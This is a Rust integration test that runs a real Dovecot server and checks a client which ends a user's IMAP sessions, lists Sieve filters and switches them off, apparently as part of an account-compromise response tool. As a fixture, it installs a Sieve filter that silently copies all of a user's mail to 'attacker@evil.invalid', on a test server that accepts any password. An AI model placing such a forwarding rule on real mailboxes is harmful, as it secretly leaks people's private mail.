//! Doveadm as a real Dovecot runs it, where it is installed and may be started: that takes root.

use crate::fragments::installed;
use counterfoil_mailsystem::Doveadm;
use counterfoil_service::{MailFilter, MailSystem, MailSystemError};
use secrecy::SecretString;
use std::io::{BufRead, BufReader, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::os::unix::fs::{MetadataExt, chown};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};
use tempfile::TempDir;

const ALICE: &str = "alice@example.org";
const PATIENCE: Duration = Duration::from_secs(30);

fn free_port() -> u16 {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    listener.local_addr().unwrap().port()
}

/// A Dovecot in a folder of its own, in which every password is right. Ends with this value.
struct Dovecot {
    home: TempDir,
    child: Child,
    imap: u16,
    doveadm: u16,
}

impl Dovecot {
    fn start() -> Self {
        let home = tempfile::tempdir().unwrap();
        let (imap, doveadm) = (free_port(), free_port());
        let mail = home.path().join("mail");
        std::fs::create_dir(&mail).unwrap();
        chown(&mail, Some(5000), Some(5000)).unwrap();
        let dir = home.path().display();
        // Dovecot drops its rights and must still get here.
        let open = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        std::fs::set_permissions(home.path(), open).unwrap();
        let conf = format!(
            "base_dir = {dir}/run\nstate_dir = {dir}/state\nlog_path = {dir}/log\nlisten = 127.0.0.1\nprotocols = imap sieve\n\
             ssl = no\nfirst_valid_uid = 5000\nmail_uid = 5000\nmail_gid = 5000\nmail_location = maildir:~/Maildir\n\
             passdb {{\n  driver = static\n  args = password=any\n}}\n\
             userdb {{\n  driver = static\n  args = uid=5000 gid=5000 home={dir}/mail/%u allow_all_users=yes\n}}\n\
             service imap-login {{\n  inet_listener imap {{\n    port = {imap}\n  }}\n  inet_listener imaps {{\n    port = 0\n  }}\n}}\n\
             service managesieve-login {{\n  inet_listener sieve {{\n    port = 0\n  }}\n}}\n\
             service doveadm {{\n  inet_listener http {{\n    address = 127.0.0.1\n    port = {doveadm}\n  }}\n}}\n\
             doveadm_api_key = key123\nplugin {{\n  sieve = file:~/sieve;active=~/.dovecot.sieve\n}}\n"
        );
        std::fs::write(home.path().join("dovecot.conf"), conf).unwrap();
        let child = Command::new("/usr/sbin/dovecot")
            .arg("-F")
            .arg("-c")
            .arg(home.path().join("dovecot.conf"))
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let dovecot = Self {
            home,
            child,
            imap,
            doveadm,
        };
        let began = Instant::now();
        while TcpStream::connect((Ipv4Addr::LOCALHOST, imap)).is_err() {
            assert!(began.elapsed() < PATIENCE, "{}", dovecot.log());
            std::thread::sleep(Duration::from_millis(50));
        }
        dovecot
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.home.path().join("log")).unwrap_or_default()
    }

    fn asked_with(&self, key: &str) -> Doveadm {
        let url = format!("http://127.0.0.1:{}/doveadm/v1", self.doveadm);
        Doveadm::new(&url, &SecretString::from(key)).unwrap()
    }

    fn sign_in(&self, login: &str) -> BufReader<TcpStream> {
        let stream = TcpStream::connect((Ipv4Addr::LOCALHOST, self.imap)).unwrap();
        stream.set_read_timeout(Some(PATIENCE)).unwrap();
        let mut server = BufReader::new(stream);
        let mut line = String::new();
        server.read_line(&mut line).unwrap();
        let asked = format!("a LOGIN {login} any\r\n");
        server.get_mut().write_all(asked.as_bytes()).unwrap();
        line.clear();
        server.read_line(&mut line).unwrap();
        assert!(line.starts_with("a OK"), "{line}");
        server
    }

    fn put_filter(&self, name: &str, script: &str) {
        let mut child = Command::new("/usr/bin/doveadm")
            .arg("-c")
            .arg(self.home.path().join("dovecot.conf"))
            .args(["sieve", "put", "-a", "-u", ALICE, name])
            .stdin(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(script.as_bytes())
            .unwrap();
        assert!(child.wait().unwrap().success(), "{}", self.log());
    }
}

impl Drop for Dovecot {
    fn drop(&mut self) {
        // Its own way to end takes its children with it.
        let _ = Command::new("/usr/bin/doveadm")
            .arg("-c")
            .arg(self.home.path().join("dovecot.conf"))
            .arg("stop")
            .status();
        let _ = self.child.wait();
    }
}

fn is_root() -> bool {
    std::fs::metadata("/proc/self").is_ok_and(|process| process.uid() == 0)
}

#[tokio::test]
async fn a_real_dovecot_ends_connections_and_shows_filters() {
    let there =
        installed("/usr/sbin/dovecot") && Path::new("/usr/lib/dovecot/managesieve").exists();
    if !there || !is_root() {
        return;
    }
    let dovecot = Dovecot::start();
    let doveadm = dovecot.asked_with("key123");
    doveadm.knock().await.unwrap();
    doveadm.cut_off(ALICE).await.unwrap();

    let mut alice = dovecot.sign_in(ALICE);
    let mut bob = dovecot.sign_in("bob@example.org");
    doveadm.cut_off(ALICE).await.unwrap();
    let mut line = String::new();
    alice.read_line(&mut line).unwrap();
    assert!(line.is_empty() || line.starts_with("* BYE"), "{line}");
    bob.get_mut().write_all(b"b NOOP\r\n").unwrap();
    line.clear();
    bob.read_line(&mut line).unwrap();
    assert!(line.starts_with("b OK"), "{line}");

    assert_eq!(doveadm.filters(ALICE).await.unwrap(), []);
    let script = "require [\"copy\"];\nredirect :copy \"attacker@evil.invalid\";\n";
    dovecot.put_filter("ho \"li\\ day", script);
    let mut filter = MailFilter {
        name: "ho \"li\\ day".into(),
        active: true,
        script: script.into(),
    };
    assert_eq!(doveadm.filters(ALICE).await.unwrap(), [filter.clone()]);
    doveadm.switch_filter_off(ALICE).await.unwrap();
    doveadm.switch_filter_off(ALICE).await.unwrap();
    filter.active = false;
    assert_eq!(doveadm.filters(ALICE).await.unwrap(), [filter]);

    let refused = dovecot.asked_with("another").cut_off(ALICE).await;
    let wrong_key = MailSystemError::Refused("it has another doveadm_api_key");
    assert_eq!(refused, Err(wrong_key));
}
